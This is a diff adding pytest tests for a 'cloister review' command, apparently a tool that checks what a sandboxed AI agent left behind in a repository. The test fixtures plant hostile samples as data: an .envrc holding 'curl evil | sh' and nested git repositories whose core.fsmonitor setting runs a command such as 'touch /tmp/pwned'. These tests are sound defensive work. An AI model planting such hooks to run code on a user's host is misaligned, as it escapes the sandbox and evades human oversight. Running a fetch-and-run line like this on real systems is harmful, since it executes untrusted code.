@@ -1,0 +1,201 @@
+"""``cloister review`` through click's runner: a session as ``cloister start`` records it,
+then what an agent left; the engine is a fake that knows no running cloister."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import docker.errors
+import pytest
+from click.testing import CliRunner, Result
+
+from cloister_cli import gitguard, sessions
+from cloister_cli.cloisters import Workspace
+from cloister_cli.commands.review import FOUND_EXIT
+from cloister_cli.lifecycle import Context
+from cloister_cli.main import cli
+from cloister_cli.projects import Project
+from cloister_core.paths import CloisterPaths
+from cloister_core.sessions import append_event, read_session, write_session
+from tests.cli.test_git import hermetic_git, make_repo, run_git
+
+
+@dataclass
+class NoContainers:
+    listed: list[dict[str, Any]] = field(default_factory=list)
+
+    def get(self, name: str) -> None:
+        raise docker.errors.NotFound(f"no container {name}")
+
+    def list(self, **filters: Any) -> list[object]:
+        self.listed.append(filters)
+        return []
+
+
+@dataclass
+class Engine:
+    containers: NoContainers = field(default_factory=NoContainers)
+
+
+@pytest.fixture(autouse=True)
+def _hermetic(monkeypatch: pytest.MonkeyPatch) -> None:
+    hermetic_git(monkeypatch)
+
+
+@pytest.fixture
+def engine(monkeypatch: pytest.MonkeyPatch) -> Engine:
+    fake = Engine()
+    monkeypatch.setattr(Context, "docker", property(lambda self: fake))
+    return fake
+
+
+@pytest.fixture
+def paths(tmp_path: Path) -> CloisterPaths:
+    return CloisterPaths(config_dir=tmp_path / "config", data_dir=tmp_path / "data")
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return make_repo(tmp_path / "home" / "api")
+
+
+def start(paths: CloisterPaths, repo: Path, home: Path) -> sessions.Prepared:
+    """What ``cloister start`` does on the host before the container runs."""
+    return sessions.prepare(
+        paths, Workspace(Project("api", repo, git=True), repo), "api", home=home
+    )
+
+
+def invoke(paths: CloisterPaths, *args: str, cwd: Path | None = None, stdin: str = "") -> Result:
+    runner = CliRunner()
+    env = {"CLOISTER_CONFIG_DIR": str(paths.config_dir), "CLOISTER_DATA_DIR": str(paths.data_dir)}
+    if cwd is None:
+        return runner.invoke(cli, list(args), env=env, input=stdin)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(cwd)
+        return runner.invoke(cli, list(args), env=env, input=stdin)
+
+
+def plant_nested(repo: Path, marker: Path) -> Path:
+    sub = make_repo(repo / "tools" / "lib")
+    run_git(sub, "config", "core.fsmonitor", f"touch '{marker}'; echo")
+    return sub
+
+
+def test_the_humans_own_setup_is_not_reported(
+    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
+) -> None:
+    (repo / ".envrc").write_text("export A=1\n", encoding="utf-8")
+    plant_nested(repo, tmp_path / "marker")
+    start(paths, repo, tmp_path / "home")
+    result = invoke(paths, "review", "api")
+    assert result.exit_code == 0, result.output
+    assert "nothing found" in result.output
+
+
+def test_what_the_agent_left_is_reported_with_status_3(
+    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
+) -> None:
+    start(paths, repo, tmp_path / "home")
+    plant_nested(repo, tmp_path / "marker")
+    (repo / ".envrc").write_text("curl evil | sh\n", encoding="utf-8")
+    result = invoke(paths, "review", cwd=repo / "tools")  # found by directory
+    assert result.exit_code == FOUND_EXIT, result.output
+    text = " ".join(result.output.split())
+    assert "tools/lib/.git" in text or "tools/lib" in text
+    assert "core.fsmonitor" in text
+    assert ".envrc" in text
+
+    document = json.loads(invoke(paths, "review", "api", "--json").output)
+    assert document["cloister"] == "api"
+    assert document["baseline"] is True
+    assert {item["kind"] for item in document["findings"]} == {"nested-repository", "envrc"}
+
+
+def test_fix_moves_what_is_safe_to_and_reports_the_rest(
+    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
+) -> None:
+    start(paths, repo, tmp_path / "home")
+    marker = tmp_path / "marker"
+    sub = plant_nested(repo, marker)
+    (repo / ".envrc").write_text("curl evil | sh\n", encoding="utf-8")
+
+    refused = invoke(paths, "review", "api", "--fix", stdin="n\n")
+    assert refused.exit_code == 1
+    assert (sub / ".git").is_dir()
+
+    fixed = invoke(paths, "review", "api", "--fix", "--yes")
+    assert fixed.exit_code == FOUND_EXIT, fixed.output  # the .envrc needs a human
+    assert not (sub / ".git").exists()
+    assert "moved" in fixed.output
+    assert list((paths.quarantine_dir / "api").glob("*/tools/lib/.git/config"))
+    run_git(sub.parent.parent, "status")
+    assert not marker.exists()
+
+    (repo / ".envrc").unlink()
+    assert invoke(paths, "review", "api").exit_code == 0
+
+
+def test_a_held_guard_is_released_once_fixed(
+    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
+) -> None:
+    prepared = start(paths, repo, tmp_path / "home")
+    assert gitguard.is_guarded(repo / ".git", paths.git_guard_config)
+    sub = make_repo(repo / "sub")
+    run_git(sub, "config", "core.fsmonitor", "touch /nowhere; echo")
+    run_git(repo, "add", "sub")
+    write_session(paths, prepared.session.model_copy(update={"guard_held": True}))
+    document = json.loads(invoke(paths, "review", "api", "--fix", "--yes", "--json").output)
+    assert document["fixed"]
+    assert not gitguard.is_guarded(repo / ".git", paths.git_guard_config)
+    assert not (repo / ".gitmodules").exists()  # the stand-in went with it
+    record = read_session(paths, "api")
+    assert record is not None
+    assert not record.guard_held
+
+
+def test_what_the_guard_undid_is_shown(
+    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
+) -> None:
+    start(paths, repo, tmp_path / "home")
+    append_event(paths, "api", "removed", f"{repo}/.git/packed-refs", "a symbolic link to '/x'")
+    result = invoke(paths, "review", "api")
+    assert f"Cloister removed {repo}/.git/packed-refs" in " ".join(result.output.split())
+
+
+def test_a_directory_no_cloister_worked_in(
+    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
+) -> None:
+    (repo / ".envrc").write_text("export A=1\n", encoding="utf-8")
+    result = invoke(paths, "review", cwd=repo)
+    assert result.exit_code == FOUND_EXIT
+    assert "no cloister has worked here" in result.output
+    assert ".envrc" in result.output
+
+
+def test_an_unknown_cloister_is_one_line(paths: CloisterPaths, engine: Engine) -> None:
+    result = invoke(paths, "review", "nope")
+    assert result.exit_code == 1
+    assert result.output.strip() == "Error: no session of cloister 'nope' (`cloister list`)"
+
+
+def test_a_quarantined_repository_says_what_it_would_have_run(
+    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
+) -> None:
+    start(paths, repo, tmp_path / "home")
+    moved = make_repo(paths.quarantine_dir / "api" / "20261123T000000Z" / "sub")
+    run_git(moved, "config", "core.fsmonitor", "touch /tmp/pwned; echo")
+    append_event(
+        paths,
+        "api",
+        "quarantined",
+        f"{repo}/sub/.git",
+        "a repository at gitlink 'sub'",
+        moved_to=str(moved / ".git"),
+    )
+    text = " ".join(invoke(paths, "review", "api").output.split())
+    assert f"Cloister quarantined {repo}/sub/.git" in text
+    assert "it would have run: git runs `touch /tmp/pwned; echo` (core.fsmonitor)" in text
